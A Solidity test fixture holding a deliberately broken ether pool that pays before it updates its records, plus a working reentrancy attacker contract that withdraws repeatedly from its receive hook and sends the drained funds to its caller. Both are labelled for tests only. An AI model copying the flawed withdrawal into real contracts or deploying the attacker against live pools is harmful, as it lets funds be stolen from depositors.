// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

/// A pool of ether to be attacked. For tests only: it is broken on purpose.
///
/// It pays before it writes down what it has paid, so that a recipient who asks again meanwhile is paid again.
contract ReentrantPool {
    uint256 private constant ONE = 1e18;

    uint256 public totalShares;
    mapping(address holder => uint256) public sharesOf;

    /// What one share is worth in ether, 18 decimals, under the name that Curve's pools give it.
    // forge-lint: disable-next-line(mixed-case-function)
    function get_virtual_price() external view returns (uint256) {
        return totalShares == 0 ? ONE : address(this).balance * ONE / totalShares;
    }

    function deposit() external payable {
        uint256 before = address(this).balance - msg.value;
        uint256 shares = totalShares == 0 ? msg.value : msg.value * totalShares / before;
        totalShares += shares;
        sharesOf[msg.sender] += shares;
    }

    /// Income, such as fees of trades.
    function earn() external payable {}

    /// The flaw: the books are kept after the payment.
    function withdrawAll() external {
        uint256 owed = address(this).balance * sharesOf[msg.sender] / totalShares;
        (bool paid,) = msg.sender.call{value: owed}("");
        require(paid, "not paid");
        totalShares -= sharesOf[msg.sender];
        sharesOf[msg.sender] = 0;
    }
}

/// Withdraws again each time that it is paid. For tests only.
contract ReentrantThief {
    ReentrantPool private immutable _pool;
    uint256 private _left;

    constructor(ReentrantPool pool) {
        _pool = pool;
    }

    /// Deposits what was sent along, and withdraws it `times` times; the caller keeps everything.
    function attack(uint256 times) external payable {
        _pool.deposit{value: msg.value}();
        _left = times - 1;
        _pool.withdrawAll();
        (bool paid,) = msg.sender.call{value: address(this).balance}("");
        require(paid, "not paid");
    }

    receive() external payable {
        if (_left == 0) return;
        _left -= 1;
        _pool.withdrawAll();
    }
}
